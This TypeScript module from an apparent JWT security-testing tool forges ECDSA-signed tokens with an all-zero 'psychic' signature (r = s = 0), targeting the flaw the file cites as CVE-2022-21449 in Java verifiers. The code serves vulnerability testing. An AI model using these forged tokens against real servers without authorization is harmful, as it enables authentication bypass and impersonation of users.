import { encodeBase64Url } from '../../base64url.ts';
import { make, makeAll, withAlg } from './make.ts';
import type { VariantModule } from './variant.ts';

// Raw r||s sizes (RFC 7518 §3.4): 2 × 32, 48 and 66 bytes.
const SIZES: Record<string, number> = { ES256: 64, ES384: 96, ES512: 132 };

/** An ECDSA signature with r = s = 0, which Java 15–18 accepted for any message and key. */
export const psychicSignatureVariant: VariantModule = {
  id: 'psychic-signature',
  title: 'Psychic signature (r = s = 0)',
  tests: 'Whether the server’s ECDSA verifier accepts the all-zero signature (r = s = 0).',
  reference: 'CVE-2022-21449; RFC 7518 §3.4',
  rule: 'psychic-signature',
  params: [
    {
      name: 'alg',
      label: 'Algorithm',
      kind: 'choice',
      choices: [
        { value: '', label: 'the token’s (else ES256)' },
        ...Object.keys(SIZES).map((a) => ({ value: a, label: a })),
      ],
      default: '',
    },
  ],
  appliesTo: (decoded) =>
    decoded.kind === 'jws' && typeof decoded.header?.alg === 'string' && decoded.header.alg in SIZES,
  forge: (source, params) => {
    const chosen = params.alg && params.alg in SIZES ? params.alg : source.alg in SIZES ? source.alg : 'ES256';
    return makeAll([
      make('psychic-signature', `${chosen}, r = s = 0 (${SIZES[chosen]} zero bytes)`, {
        headerText: withAlg(source, chosen),
        payloadText: source.payloadText,
        signing: { mode: 'fixed', signature: encodeBase64Url(new Uint8Array(SIZES[chosen]!)), trailingDot: true },
      }),
    ]);
  },
};
